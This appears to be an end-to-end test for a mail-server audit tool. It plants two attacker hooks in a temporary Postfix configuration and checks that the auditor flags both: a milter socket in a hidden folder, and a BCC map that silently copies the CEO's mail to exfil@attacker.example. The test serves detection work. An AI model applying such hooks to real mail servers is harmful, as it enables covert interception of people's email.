// End to end on the real Postfix: a copy of its configuration changed with the real `postconf -e`
// (a milter in a hidden temporary folder, a BCC map to an outside domain), collected with
// scripts/collect-mta.sh, audited by the CLI: both hooks are found, by the path they came from.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { POSTCONF, SKIP_NO_POSTFIX } from '../support/mta-packages.js';
import type { Finding } from '../../src/findings/model.js';

const run = (cmd: string, args: string[]) => {
  const r = spawnSync(cmd, args, { encoding: 'utf8' });
  assert.equal(r.status, 0, `${cmd} ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
};

test('postconf -e a milter and a BCC map, collect-mta.sh, tracehound audit finds both', { skip: SKIP_NO_POSTFIX }, () => {
  const root = mkdtempSync(join(tmpdir(), 'th-mta-e2e-'));
  const conf = join(root, 'postfix'), out = join(root, 'collection');
  try {
    run('mkdir', ['-p', conf]);
    copyFileSync('/usr/share/postfix/main.cf.debian', join(conf, 'main.cf'));
    copyFileSync('/etc/postfix/master.cf', join(conf, 'master.cf'));
    run(POSTCONF, ['-c', conf, '-e', 'mydestination = example.org, localhost', `smtpd_milters = unix:/var/tmp/.cache/milter.sock`, `recipient_bcc_maps = hash:${conf}/recipient_bcc`]);
    writeFileSync(join(conf, 'recipient_bcc'), 'ceo@example.org exfil@attacker.example\n');
    const postmap = POSTCONF.replace(/postconf$/, 'postmap');
    spawnSync(postmap, ['-c', conf, `hash:${join(conf, 'recipient_bcc')}`]); // the .db beside it, as an admin would
    assert.match(run(POSTCONF, ['-c', conf, '-n']), /^smtpd_milters = unix:\/var\/tmp\/\.cache\/milter\.sock$/m);

    run('sh', ['scripts/collect-mta.sh', '-o', out, '-c', conf, '-d', '0']);
    assert.ok(readdirSync(out).includes('postfix-1'));
    const owners = readFileSync(join(out, 'owners.tsv'), 'utf8');
    assert.match(owners, new RegExp(`^${conf}/recipient_bcc\\t-$`, 'm'), 'ownership recorded for the table the setting names');

    const r = spawnSync(process.execPath, ['--import', 'tsx', 'src/cli/main.ts', 'audit', out, '--format', 'jsonl', '--fail-on', 'high'], { encoding: 'utf8' });
    assert.equal(r.status, 1, r.stderr);
    const findings = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Finding);
    const high = findings.filter((f) => f.severity === 'high');
    assert.deepEqual(high.map((f) => f.check).sort(), ['mta-copy-outside', 'mta-suspicious-hook'], r.stdout);
    const milter = high.find((f) => f.check === 'mta-suspicious-hook')!;
    assert.equal(milter.fields['socket'], 'unix:/var/tmp/.cache/milter.sock');
    assert.ok(milter.evidence.some((e) => e.file.endsWith('postfix-1/postconf-n.txt')) && milter.evidence.some((e) => e.file.endsWith(`${conf}/main.cf`)), JSON.stringify(milter.evidence));
    const copy = high.find((f) => f.check === 'mta-copy-outside')!;
    assert.equal(copy.fields['address'], 'exfil@attacker.example');
    assert.ok(copy.evidence[0]!.file.endsWith(`${conf}/recipient_bcc`) && copy.evidence[0]!.line === 1);
    // nothing above low besides the two changes: the rest of the installed configuration is Postfix's own
    assert.deepEqual(findings.filter((f) => f.severity !== 'high' && f.severity !== 'low' && f.severity !== 'informational'), []);
  } finally { rmSync(root, { recursive: true, force: true }); }
});
